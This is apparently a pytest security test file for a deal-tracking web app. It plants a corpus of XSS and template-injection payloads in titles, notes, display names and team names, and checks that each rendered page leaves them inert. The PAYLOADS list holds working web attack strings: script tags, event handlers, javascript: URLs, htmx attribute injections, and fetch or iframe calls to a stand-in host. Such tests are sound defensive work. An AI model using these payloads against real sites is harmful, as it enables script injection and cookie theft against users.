"""XSS (issue 4, item 6): a corpus of payloads in every text a user types — deal titles, text
fields, notes, the note of a lost deal — rendered on the board, the deal page and its history.

Each payload must come out inert: the HTML parser finds no element, attribute, event handler,
``javascript:`` URL or htmx attribute that a payload brought in, and a payload with markup never
appears raw. The Playwright test then opens the pages in Chromium and checks that no dialog
opens and no request goes to the payloads' host (127.0.0.2, which nothing serves).
"""
from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markupsafe import escape

from tests.security.conftest import FUNNEL

EVIL = "127.0.0.2"  # the payloads' host: never served, so any request to it is the payload's

PAYLOADS = [
    "<script>alert(1)</script>",
    f"<script src=//{EVIL}/x.js></script>",
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    f"<img src=x onerror=\"fetch('//{EVIL}/img')\">",
    "<img src=x onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    f"<svg><script href=\"//{EVIL}/svg.js\"/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    f"<a href=\"javascript:fetch('//{EVIL}/a')\">click</a>",
    f"<iframe src=\"http://{EVIL}/frame\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    f"<div hx-get=\"http://{EVIL}/hx\" hx-trigger=\"load\">x</div>",
    f"<div hx-get=\"//{EVIL}/hx2\" hx-trigger=\"load\" hx-swap=\"outerHTML\"></div>",
    f"<div data-hx-post=\"http://{EVIL}/hx3\" data-hx-trigger=\"load\"></div>",
    "<div hx-on:htmx:load=\"alert(1)\" hx-trigger=\"load\">x</div>",
    "<div hx-vals='js:{a: alert(1)}' hx-get=\"/\" hx-trigger=\"load\"></div>",
    f"<form action=\"http://{EVIL}/form\"><button>go</button></form>",
    f"<link rel=stylesheet href=\"http://{EVIL}/x.css\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url=http://{EVIL}/meta\">",
    f"<object data=\"http://{EVIL}/obj\"></object>",
    f"<base href=\"http://{EVIL}/\">",
    f"<style>@import 'http://{EVIL}/s.css';</style>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<<script>alert(1);//<</script>",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\u202e<script>alert(1)</script>\u202d",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "jav\u200bascript:alert(1)",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster",
                  "background", "content"}


class Inspector(HTMLParser):
    """Everything in a page that a payload could have injected."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            lowered = value.lower().replace("\u200b", "")
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>: an event handler")
            url_like = name in URL_ATTRIBUTES or name.startswith(("hx-", "data-hx-"))
            if url_like and (EVIL in value or "javascript:" in lowered or "alert(" in value):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag in ("iframe", "object", "embed", "base", "meta") and any(
                EVIL in (v or "") for _, v in attrs):
            self.problems.append(f"<{tag}> from a payload")
        src = dict(attrs).get("src")
        if tag == "script" and not (src or "").startswith("/static/"):
            self.problems.append(f"<script src={src!r}>: not one of ours")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)


def inert(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    problems = inspector.problems
    for payload in PAYLOADS:
        if any(c in payload for c in "<>\"'") and payload in html:
            problems.append(f"raw payload: {payload!r}")
    if "<script>alert" in html.lower() or "<svg onload" in html.lower():
        problems.append("raw script or svg")
    return problems


@pytest.fixture
def planted(app, org):
    """Every payload in a title, the text fields and a note of an open deal, and in the note of
    a lost deal (its lost-reason note); returns the ids of the deals."""
    api = org.api(app, "rita")
    open_ids, lost_ids = [], []
    for n, payload in enumerate(PAYLOADS):
        data = {"company": payload, "needs_survey": payload, "approval_note": payload, "amount": n}
        created = api.post("/api/v1/deals", {"funnel": FUNNEL, "title": payload, "data": data})
        assert created.status_code == 201, (payload, created.get_json())
        deal = created.get_json()
        assert deal["title"] == payload  # stored as typed: escaping is the page's job
        patched = api.patch(f"/api/v1/deals/{deal['id']}", {
            "data": {"company": payload + "!"}, "version": deal["version"]})
        assert patched.status_code == 200, patched.get_json()
        assert api.post(f"/api/v1/deals/{deal['id']}/notes", {"text": payload}).status_code == 201
        open_ids.append(deal["id"])
        lost = api.post("/api/v1/deals", {"funnel": FUNNEL, "title": payload,
                                          "data": {"company": payload}}).get_json()
        moved = api.post(f"/api/v1/deals/{lost['id']}/move", {
            "to": "lost", "lost_reason": "price", "note": payload, "version": lost["version"]})
        assert moved.status_code == 200, moved.get_json()
        lost_ids.append(lost["id"])
    return open_ids, lost_ids


def test_the_corpus_is_big_enough():
    assert len(PAYLOADS) >= 30 and len(set(PAYLOADS)) == len(PAYLOADS)


def test_the_inspector_catches_each_payload_unescaped():
    """The control: rendered raw, every markup payload is reported."""
    for payload in PAYLOADS:
        if "<" in payload or "\"" in payload:
            assert inert(f"<p>{payload}</p><input value=\"{payload}\">"), payload
        assert not inert(f"<p>{escape(payload)}</p><input value=\"{escape(payload)}\">"), payload


def test_payloads_are_inert_on_the_board_the_deal_page_and_its_history(app, org, planted):
    open_ids, lost_ids = planted
    browser = org.browser(app, "rita")
    pages = [f"/board/{FUNNEL}", f"/board/{FUNNEL}/column/lead",
             f"/board/{FUNNEL}/column/lead/more", "/"]
    pages += [f"/deals/{i}" for i in open_ids + lost_ids]
    pages += [f"/deals/{i}/move?to=qualified" for i in open_ids[:5]]
    for path in pages:
        for headers in ({}, {"HX-Request": "true"}):
            response = browser.get(path, headers=headers)
            assert response.status_code == 200, path
            html = response.get_data(as_text=True)
            assert inert(html) == [], path
    board = browser.get(f"/board/{FUNNEL}").get_data(as_text=True)
    assert str(escape(PAYLOADS[0])) in board  # shown, as text
    page = browser.get(f"/deals/{lost_ids[0]}").get_data(as_text=True)
    assert str(escape(PAYLOADS[0])) in page
    assert "{{7*7}}" in browser.get(f"/deals/{open_ids[PAYLOADS.index('{{7*7}}')]}").get_data(as_text=True)


def test_payloads_in_refused_forms_are_inert(app, org, planted):
    """A refused form shows what was typed again: escaped there too."""
    open_ids, _ = planted
    browser = org.browser(app, "rita")
    for payload in PAYLOADS:
        response = browser.post(f"/deals/{open_ids[0]}", {
            "title": payload, "data.company": "", "data.amount": payload, "version": "999"})
        assert response.status_code in (409, 422), payload
        assert inert(response.get_data(as_text=True)) == [], payload
        response = browser.post("/deals/new", {"funnel": FUNNEL, "title": payload,
                                               "data.company": "", "data.amount": payload})
        assert response.status_code == 422, payload
        assert inert(response.get_data(as_text=True)) == [], payload


# --- the admin pages: display names and team names --------------------------------------------


def test_display_names_are_inert_on_the_admin_pages_and_the_audit_log(app, org):
    """Display names are free text: every payload is stored as typed and shown as text on the
    user list, each user's page, the team tree (as a manager), its selects and the audit log."""
    from goldsieve.people.teams import update_team
    from goldsieve.people.users import add_user

    names = []
    for n, payload in enumerate(PAYLOADS):
        name = f"xss{n}"
        add_user(org.store, name, "rep", "a-long-passphrase", display_name=payload[:100],
                 actor="admin")
        names.append(name)
    update_team(org.store, "north", manager=names[0], actor="admin")
    browser = org.browser(app, "admin")
    pages = ["/admin/users", "/admin/teams", "/admin/teams/north", "/admin/audit"]
    pages += [f"/admin/users/{name}" for name in names]
    for path in pages:
        for headers in ({}, {"HX-Request": "true"}):
            response = browser.get(path, headers=headers)
            assert response.status_code == 200, path
            assert inert(response.get_data(as_text=True)) == [], path
    listing = browser.get("/admin/users").get_data(as_text=True)
    assert str(escape(PAYLOADS[0])) in listing  # shown, as text


def test_payloads_as_user_or_team_names_are_refused_inert_and_write_nothing(app, org):
    browser = org.browser(app, "admin")
    before = org.counts()
    for payload in PAYLOADS:
        user = browser.post("/admin/users", {
            "username": payload, "display_name": payload, "role": "rep", "team": payload,
            "password": "a-long-passphrase", "repeat_password": "a-long-passphrase"})
        assert user.status_code == 422, payload
        assert inert(user.get_data(as_text=True)) == [], payload
        team = browser.post("/admin/teams", {"name": payload, "parent": payload,
                                             "manager": payload})
        assert team.status_code == 422, payload
        assert inert(team.get_data(as_text=True)) == [], payload
        edit = browser.post("/admin/teams/north", {"parent": payload, "manager": payload})
        assert edit.status_code == 422, payload
        assert inert(edit.get_data(as_text=True)) == [], payload
    assert org.counts() == before


# --- what automation and analytics show: the inbox, tasks and reports --------------------------


def test_payloads_are_inert_in_the_inbox_the_tasks_and_the_reports(app, org, planted):
    """Notification texts and task titles quote deals (rules render ``{title}`` into them), and
    the analytics pages list deal titles and lost reasons: the corpus stays text there too."""
    from goldsieve.deals.tasks import task_row

    open_ids, lost_ids = planted
    rita = org.user("rita")
    with org.store.transaction() as txn:
        for deal_id, payload in zip(open_ids, PAYLOADS):
            deal = txn.get("deals", deal_id)
            txn.insert("notifications", {"user": "rita", "deal_id": deal_id, "funnel": FUNNEL,
                                         "text": f"Call about {payload}", "at": deal["updated_at"],
                                         "read_at": None, "key": f"xss.{deal_id}"})
            txn.insert("tasks", task_row(deal, payload, rita["username"], None, "system",
                                         org.engine.clock(), key=f"xss.{deal_id}"))
    browser = org.browser(app, "rita")
    window = "from=2000-01-01&to=2100-01-01"
    pages = ["/inbox", "/tasks", "/inbox/count", f"/deals/{open_ids[0]}",
             f"/analytics/{FUNNEL}?{window}", f"/analytics/{FUNNEL}/advice?{window}",
             f"/analytics/{FUNNEL}/forecast", f"/analytics/{FUNNEL}/lost?stage=lead&reason=price&{window}"]
    for path in pages:
        for headers in ({}, {"HX-Request": "true"}):
            response = browser.get(path, headers=headers)
            assert response.status_code == 200, path
            assert inert(response.get_data(as_text=True)) == [], path
    for path in ("/inbox", "/tasks", f"/analytics/{FUNNEL}/lost?stage=lead&reason=price&{window}"):
        assert str(escape(PAYLOADS[0])) in browser.get(path).get_data(as_text=True), path  # as text
